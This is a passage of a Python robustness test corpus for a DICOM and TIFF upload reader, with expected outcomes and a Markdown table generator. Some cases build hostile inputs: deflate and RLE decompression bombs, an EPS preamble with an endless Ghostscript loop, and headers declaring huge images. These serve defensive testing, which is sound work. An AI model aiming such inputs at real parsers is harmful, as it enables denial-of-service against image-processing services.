         Reads((1, 5), "windowed: [0, 0, 0.5, 1, 1]", _close(np.array([[0, 0, 0.5, 1, 1]]), 0.01))),
    Case("dicom-multiframe", "cine.dcm", "3 frames; only the first has the bright half on the left",
         lambda: dicom_bytes(np.stack([bright_left(), bright_left()[:, ::-1], bright_left()[:, ::-1]])),
         Reads((6, 8), "first frame: left half 1, right half 0", _close(bright_left_expected, 0))),
    Case("dicom-constant", "blank.dcm", "a DICOM with every pixel 1234", lambda: dicom_bytes(np.full((4, 4), 1234)),
         Reads((4, 4), "all 0 (no division by zero)", _constant(0.0))),
    Case("dicom-no-pixels", "report.dcm", "a DICOM without PixelData (like a report)",
         lambda: dicom_bytes(pixel_data=False), Rejected("DICOM file has no pixel data")),
    Case("dicom-jpeg-ls", "ls.dcm", "JPEG-LS Lossless transfer syntax with junk pixel data (no JPEG-LS decoder here)",
         junk_compressed_dicom("JPEGLSLossless"),
         Rejected("compressed as 'JPEG-LS Lossless Image Compression' (1.2.840.10008.1.2.4.80), "
                  "which cannot be decoded here")),
    Case("dicom-jpeg-2000", "j2k.dcm", "JPEG 2000 Lossless transfer syntax with junk pixel data",
         junk_compressed_dicom("JPEG2000Lossless"),
         Rejected("DICOM 'JPEG 2000 Image Compression (Lossless Only)' pixel data in the upload cannot be decoded")),
    # Found by tests/core/test_fuzz_reader.py: an unknown transfer syntax raised pydicom's ValueError.
    Case("dicom-unknown-transfer-syntax", "unknown-ts.dcm",
         "TransferSyntaxUID changed to 1.2.840.10008.9.9.9 (no such syntax)",
         lambda: dicom_bytes(bright_left()).replace(b"1.2.840.10008.1.2.1\x00", b"1.2.840.10008.9.9.9\x00", 1),
         Rejected("names an unknown transfer syntax '1.2.840.10008.9.9.9'")),
    # Found by the fuzzer too: a RescaleSlope that is not a number raised numpy's UFuncTypeError.
    Case("dicom-bad-rescale", "bad-rescale.dcm", "RescaleSlope is the text `#.25` instead of a number",
         lambda: dicom_bytes(bright_left(), RescaleSlope="7.25", RescaleIntercept=0).replace(b"7.25", b"#.25", 1),
         Rejected("DICOM rescale (RescaleSlope '#.25', RescaleIntercept '0.0') or modality LUT in the upload "
                  "is unusable")),
    # Found by hand, then by the fuzzer once it stored single values twice: Rows × Columns raised TypeError.
    Case("dicom-rows-two-values", "two-rows.dcm", "Rows stored with two values (6\\6)",
         lambda: dicom_bytes(bright_left(), Rows=[6, 6]), Rejected("has no size (Rows=[6, 6], Columns=8)")),
    Case("dicom-cut-50", "cut.dcm", "a 64×64 DICOM cut at 50% (inside the pixel data)",
         cut(lambda: dicom_bytes(noise(64, 64, 6)), 0.5), Rejected("pixel data in the upload cannot be decoded")),
    # Issue 13: preamble tricks, decompression bombs inside DICOM, formats that cannot be read.
    Case("dicom-eps-preamble", "IM0005.dcm",
         "the 6×8 DICOM whose 128-byte preamble is an EPS header with `{} loop` (Ghostscript would spin for ever)",
         lambda: with_preamble(dicom_bytes(bright_left()), EPS_PREAMBLE),
         Reads((6, 8), "read as DICOM: left half 1, right half 0", _close(bright_left_expected, 0))),
    Case("dicom-tiff-preamble", "IM0006.dcm",
         "the same DICOM whose preamble is a TIFF header declaring a 13000×13000 RGB image",
         lambda: with_preamble(dicom_bytes(bright_left()), tiff_header(13000, 13000, rgb=True)),
         Reads((6, 8), "read as DICOM: left half 1, right half 0", _close(bright_left_expected, 0))),
    Case("dicom-deflated", "deflated.dcm", "the 6×8 DICOM in the Deflated Explicit VR Little Endian transfer syntax",
         lambda: dicom_bytes(bright_left(), ts=_uid("DeflatedExplicitVRLittleEndian")),
         Reads((6, 8), "left half 1, right half 0", _close(bright_left_expected, 0))),
    Case("dicom-deflate-bomb", "bomb.dcm",
         "a 52 KB deflated DICOM whose dataset inflates past 50 MB (its PixelData declares 2 GB)", deflate_bomb_dicom,
         Rejected("deflated DICOM in the upload inflates to more than 50.0 MB (52,428,800 bytes, the upload limit)")),
    Case("dicom-jpeg-larger-than-header", "jpeg.dcm",
         "JPEG Baseline DICOM with Rows = Columns = 8 whose JPEG codestream is 64×48",
         lambda: jpeg_in_dicom((64, 48), 8, 8),
         Rejected("does not match its header: the JPEG codestream of the first frame is 64×48 with 1 component(s), "
                  "but Columns × Rows is 8×8")),
    Case("dicom-j2k-larger-than-header", "j2k.dcm",
         "JPEG 2000 DICOM, 64×48, whose codestream's SIZ marker claims 13000×13000",
         lambda: j2k_in_dicom((64, 48), 48, 64, declare=(13000, 13000)),
         Rejected("does not match its header: the JPEG 2000 codestream of the first frame is 13000×13000 with "
                  "1 component(s), but Columns × Rows is 64×48")),
    Case("dicom-rle-bomb", "rle.dcm", "RLE DICOM, 64×64, whose 100 KB segment decodes to 6.4 MB", rle_bomb_dicom,
         Rejected("segment 1 of the first frame decodes to more than Rows × Columns = 4,096 bytes")),
    Case("dicom-frame-too-large", "rgb.dcm", "a DICOM declaring 6000×6000 pixels of 3 × 16-bit samples",
         frame_too_large_dicom, Rejected("would decode to 206 MB (6000×6000 × 3 sample(s) × 16 bits allocated)")),
    # Found by the first 10,000-example run of the round-2 fuzzer: struct.error from the RLE check.
    Case("dicom-rle-no-header", "rle-cut.dcm", "RLE DICOM whose frame is 2 bytes, shorter than the 64-byte RLE header",
         lambda: encapsulated_dicom(b"\x01\x00", "RLELossless", 8, 8),
         Rejected("DICOM 'RLE Lossless' pixel data in the upload cannot be decoded: the first frame has no readable "
                  "RLE header")),
    Case("tiff-float64", "double.tif", "a 4×5 TIFF of 64-bit floating-point samples", float64_tiff,
         Rejected("TIFF in the upload holds 64-bit floating-point samples, which are not supported")),
]


# --- documentation -------------------------------------------------------------------------

def outcome(case: Case) -> str:
    if isinstance(case.expected, Reads):
        return f"reads {case.expected.shape[0]}×{case.expected.shape[1]}: {case.expected.what}"
    return f"rejected: “…{case.expected.message}…”"


def markdown_table() -> str:
    """The corpus as the Markdown table in docs/robustness.md, with outcome counts."""
    def cell(text: str) -> str:
        return text.replace("|", "\\|").replace("\n", "\\n")

    lines = ["| # | case | file name | what is sent | expected outcome (H×W for images) |",
             "|---|------|-----------|--------------|------------------|"]
    lines += [f"| {i} | `{c.name}` | `{c.file_name}` | {cell(c.sent)} | {cell(outcome(c))} |"
              for i, c in enumerate(CASES, start=1)]
    reads = sum(isinstance(c.expected, Reads) for c in CASES)
    rejected = Counter(_kind(c.expected.message) for c in CASES if isinstance(c.expected, Rejected))
    lines += ["", f"{len(CASES)} cases: {reads} read, {len(CASES) - reads} rejected "
              f"({', '.join(f'{n} {kind}' for kind, n in rejected.most_common())})."]
    return "\n".join(lines)


def _kind(message: str) -> str:
    """A short family name for a rejection message, for the counts line."""
    families = {"too many pixels": ("MP; the limit",), "too many bytes": ("; the limit is 50.0 MB",),
                "DICOM bomb or mismatch refused before decoding": ("inflates to more than", "does not match its header",
                                                                   "decodes to more than", "would decode to"),
                "DICOM without decodable pixels": ("DICOM", "transfer syntax", "pixel data", "compressed as",
                                                   "has no size"),
                "truncated or corrupt": ("truncated", "damaged PNG", "cut short"),
                "no finite pixels": ("finite",), "unsupported sample layout": ("floating-point samples",)}
    for family, keys in families.items():
        if any(key in message for key in keys):
            return family
    return "not a supported image (the message says what came)"


if __name__ == "__main__":
    print(markdown_table())
